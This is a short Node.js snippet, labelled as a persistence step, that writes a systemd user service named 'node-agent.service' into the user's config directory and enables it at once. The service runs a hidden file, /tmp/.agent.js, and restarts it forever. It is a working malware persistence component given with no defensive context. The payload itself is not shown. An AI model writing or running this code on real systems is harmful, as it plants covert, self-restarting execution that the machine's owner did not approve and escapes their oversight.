// persistence: a systemd user service written and enabled
const fs = require('fs');
const path = require('path');
const os = require('os');
const { execFileSync } = require('child_process');
const dir = path.join(os.homedir(), '.config', 'systemd', 'user');
fs.mkdirSync(dir, { recursive: true });
fs.writeFileSync(path.join(dir, 'node-agent.service'),
  '[Service]\nExecStart=/usr/bin/node /tmp/.agent.js\nRestart=always\n[Install]\nWantedBy=default.target\n');
execFileSync('systemctl', ['--user', 'enable', '--now', 'node-agent.service']);
